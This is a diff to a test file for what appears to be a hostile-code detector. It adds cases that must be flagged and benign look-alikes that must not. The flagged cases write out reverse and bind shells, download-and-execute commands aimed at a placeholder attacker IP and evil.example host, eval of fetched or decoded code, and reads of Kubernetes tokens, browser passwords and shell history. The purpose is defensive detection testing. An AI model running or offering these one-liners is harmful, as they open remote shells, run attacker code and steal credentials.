@@ -318,3 +318,48 @@ describe("code_execution: instructions to build malicious behaviour", () => {
     expect(codeRules(text)).toEqual([]);
   });
 });
+
+describe("code_execution: cheat-sheet one-liners that used to slip through", () => {
+  it.each([
+    ["telnet through a fifo named by a variable", "TF=$(mktemp -u);mkfifo $TF && telnet 198.51.100.7 4242 0<$TF | sh 1>$TF", "reverse_shell.fifo"],
+    ["ruby bind shell", `ruby -rsocket -e 'f=TCPServer.new(51337);s=f.accept;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",s,s,s)'`, "reverse_shell.ruby"],
+    ["curl.exe saved then run", "curl.exe -o C:\\Users\\Public\\a.exe http://198.51.100.7/a.exe && C:\\Users\\Public\\a.exe", "download_exec.fetch_then_run"],
+    ["wget saved then run by a shell", "wget -O /tmp/i.sh http://198.51.100.7/i.sh; sh /tmp/i.sh", "download_exec.fetch_then_run"],
+    ["scp from the attacker then run", "scp op@198.51.100.7:/tmp/implant /tmp/implant && /tmp/implant", "download_exec.fetch_then_run"],
+    ["tftp client download", "tftp -i 198.51.100.7 GET nc.exe", "download_exec.lolbin"],
+    ["InstallUtil uninstall bypass", "InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\payload.dll", "download_exec.lolbin_exec"],
+    ["Perl LWP eval", `perl -e 'use LWP::Simple; eval(get("http://198.51.100.7/p.pl"))'`, "eval.fetched"],
+    ["Ruby open-uri eval", `ruby -e 'require "open-uri"; eval(URI.open("http://198.51.100.7/p.rb").read)'`, "eval.fetched"],
+    ["Function over an awaited fetch", "new Function(await (await fetch('https://cdn.evil.example/p.js')).text())()", "eval.fetched"],
+    ["exec of __import__ decoders", "exec(__import__('zlib').decompress(__import__('base64').b64decode(payload)))", "eval.decoded"],
+    ["service-account token", "cat /var/run/secrets/kubernetes.io/serviceaccount/token", "credential_read.kubernetes_token"],
+    ["token into a request", 'curl -k -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default/api', "credential_read.kubernetes_token"],
+    ["process memory strings", "strings /proc/$(pgrep -f chrome)/mem | grep -i password", "credential_read.credential_hunt"],
+    ["PSReadLine history", "Get-Content $env:APPDATA\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt", "credential_read.credential_hunt"],
+    ["browser logins query", "sqlite3 ~/.config/google-chrome/Default/'Login Data' 'select origin_url, username_value, password_value from logins'", "credential_read.browser_store"],
+    ["probe glued to a word", "name=foo`id`bar", "injection.substituted_probe"],
+  ])("detects %s", (_name, text, rule) => {
+    expect(codeRules(text)).toContain(`code_execution.${rule}`);
+  });
+
+  it.each([
+    "telnet mail.example.com 25",
+    "mkfifo /tmp/logpipe && tail -f /tmp/logpipe | grep ERROR",
+    "server = TCPServer.new(2000)\nloop do\n  client = server.accept\n  client.puts 'Hello'\n  client.close\nend",
+    "curl -o report.json https://api.example.com/report && cat report.json",
+    "wget -O data.csv https://data.example.org/export.csv && python analyze.py data.csv",
+    "scp deploy@build.example.com:/var/log/app.log ./app.log && less ./app.log",
+    "Configure the TFTP server to serve firmware images from /srv/tftp.",
+    "InstallUtil.exe MyWindowsService.exe",
+    "response = requests.get(url)\ndata = response.json()",
+    "config = eval(get_config_expression())",
+    "mod = importlib.import_module('zlib'); data = mod.decompress(blob)",
+    "Inside every pod the token is mounted at /var/run/secrets/kubernetes.io/serviceaccount/token.",
+    "cat /proc/meminfo | grep MemAvailable",
+    "PSReadLine keeps your command history in ConsoleHost_history.txt; clear it with Clear-History.",
+    "SELECT origin_url, username_value FROM logins WHERE blacklisted_by_user = 0",
+    "| Field | Type |\n|---|---|\n| `id` | string |\n| `whoami` | the current user |",
+  ])("does not flag %s", (text) => {
+    expect(codeRules(text)).toEqual([]);
+  });
+});
